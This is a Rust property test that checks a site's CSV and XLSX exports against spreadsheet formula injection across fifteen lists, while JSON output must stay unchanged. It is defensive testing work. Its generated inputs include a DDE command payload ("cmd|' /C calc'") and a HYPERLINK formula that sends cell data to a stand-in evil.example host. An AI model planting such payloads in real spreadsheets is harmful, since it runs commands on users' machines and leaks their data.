//! No cell of an exported table computes, whatever the content says; the same in JSON is as it was.

use crate::harness::{Backend, Site, TestApp, TestDatabase, property};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::io::Read;

const LISTS: [&str; 15] = [
    "history-events",
    "member-categories",
    "rules",
    "members",
    "people",
    "positions",
    "working-groups",
    "sponsor-levels",
    "sponsors",
    "partners",
    "news",
    "pages",
    "assets",
    "tags",
    "changes",
];
const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Texts as somebody writes them who wants a spreadsheet to compute: a sign, after whatever may be passed
/// over, and what may be taken for the end of a cell.
fn texts() -> impl Strategy<Value = Vec<String>> {
    let before = prop::sample::select(vec![
        "", " ", "\t", "\u{a0}", "\u{feff}", "\u{3000}", "'", "\"", "x\n", "x\r\n", "x,", "x;", "x\t", "\",",
        "\"\r\n",
    ]);
    let sign = prop::sample::select(SIGNS.to_vec());
    let after = prop::sample::select(vec![
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example?\"&A1)",
        "SUM(1;1)*A1",
        "\"\"",
        "1\r\n=2",
    ]);
    let text = (before, sign, after).prop_map(|(before, sign, after)| format!("{before}{sign}{after}"));
    prop::collection::vec(text, 24)
}

/// A site in which one of the texts stands wherever a text may.
fn site(texts: &[String]) -> Site {
    let site = Site::minimal();
    let mut place = 0;
    let mut next = || {
        place += 1;
        // A string of JSON is one of YAML.
        json!(texts[place % texts.len()]).to_string()
    };
    for n in 0..3 {
        site.write(&format!("data/members/m{n}.yaml"), &format!(
            "id: m{n}\nname: {}\nslogan: {}\ndescription: {}\nmemberSince: 2020-01-01\nmemberType: A\nworkingGroups: [G]\nsponsor: {{ level: Gold }}\n\
             representatives:\n  - {{ name: {}, role: {} }}\n", next(), next(), next(), next(), next()));
        site.write(&format!("content/blog/a{n}.md"), &format!(
            "---\ntitle: {}\nsummary: {}\ndate: 2021-01-0{}\nauthors: [{}]\ntags: [{}, {}]\nseries: [{}]\n---\n\nText.\n",
            next(), next(), n + 1, next(), next(), next(), next()));
        site.write(
            &format!("content/docs/p{n}.md"),
            &format!("---\ntitle: {}\nsummary: {}\n---\n\n{}\n", next(), next(), next()),
        );
    }
    site.write(
        "overlay/membership.yaml",
        &format!("categories:\n  - {{ code: A, name: {}, description: {} }}\n", next(), next()),
    );
    site.write(
        "overlay/partners.yaml",
        &format!("- {{ id: p, name: {}, description: {}, from: 2020-01-01 }}\n", next(), next()),
    );
    site.write(
        "overlay/history.yaml",
        &format!("- {{ date: 2020-01-01, kind: founded, title: {}, text: {} }}\n", next(), next()),
    );
    site.write(
        "overlay/positions.yaml",
        &format!("- {{ body: Board, role: {}, person: {}, from: 2020-01-01 }}\n", next(), next()),
    );
    site.write(
        "overlay/working-groups.yaml",
        &format!("- {{ code: G, name: {}, description: {} }}\n", next(), next()),
    );
    site
}

/// Whether a spreadsheet might take a cell for a formula or a command.
fn computes(cell: &str) -> bool {
    let seen = cell.trim_start_matches(|letter: char| {
        letter.is_whitespace() || letter.is_control() || letter == '\u{feff}'
    });
    seen.starts_with(SIGNS) || cell.starts_with(['\t', '\r', '\n'])
}

fn strings<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => found.push(text),
        Value::Array(items) => items.iter().for_each(|item| strings(item, found)),
        Value::Object(fields) => fields.values().for_each(|field| strings(field, found)),
        _ => {}
    }
}

fn no_cell_computes(backend: Backend) {
    property::check(backend, 3, texts(), async |database, texts| {
        let app = TestApp::with_site(TestDatabase::new(database.backend()).await, &site(&texts)).await;
        let (mut guarded, mut hostile) = (0, 0);
        for list in LISTS {
            let query = if list == "changes" { "?since=0" } else { "" };
            let csv = app.get(&format!("/v1/{list}.csv{query}")).await;
            prop_assert_eq!(csv.status.as_u16(), 200, "{}", csv.text());
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.bytes.as_slice());
            for record in reader.records() {
                for cell in &record.unwrap() {
                    prop_assert!(!computes(cell), "{list}: {cell:?}");
                    guarded += u32::from(cell.strip_prefix('\'').is_some_and(computes));
                }
            }
            let xlsx = app.get(&format!("/v1/{list}.xlsx{query}")).await;
            let mut book = zip::ZipArchive::new(std::io::Cursor::new(xlsx.bytes)).unwrap();
            for n in 0..book.len() {
                let mut part = String::new();
                let mut file = book.by_index(n).unwrap();
                if file.name().unwrap().starts_with("xl/worksheets/sheet") {
                    file.read_to_string(&mut part).unwrap();
                    prop_assert!(
                        !part.contains("<f>") && !part.contains("<f ") && !part.contains("<hyperlink"),
                        "{list} has a formula or a link"
                    );
                }
            }
            // JSON is for programs: there a text is what it is.
            let json = app.get(&format!("/v1/{list}.json{query}")).await.json();
            let mut found = Vec::new();
            strings(&json, &mut found);
            hostile += found.iter().filter(|text| computes(text)).count();
            // Titles are one line, whatever their spaces were.
            let line = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
            let given = |text: &str| texts.iter().any(|given| line(given) == line(text));
            // A text that began with an apostrophe may be told in part: what is changed is one that began without.
            let is_changed =
                |text: &str| text.strip_prefix('\'').is_some_and(|rest| given(rest) && !given(text));
            let changed = found.iter().find(|text| is_changed(text));
            prop_assert!(changed.is_none(), "{list}: a text of JSON was changed: {changed:?}");
        }
        prop_assert!(
            guarded > 0 && hostile > 0,
            "{guarded} cells are guarded, {hostile} texts of JSON are as they were"
        );
        Ok(())
    });
}

on_both! {
    fn no_cell_of_any_export_computes(backend: Backend) {
        no_cell_computes(backend);
    }
}
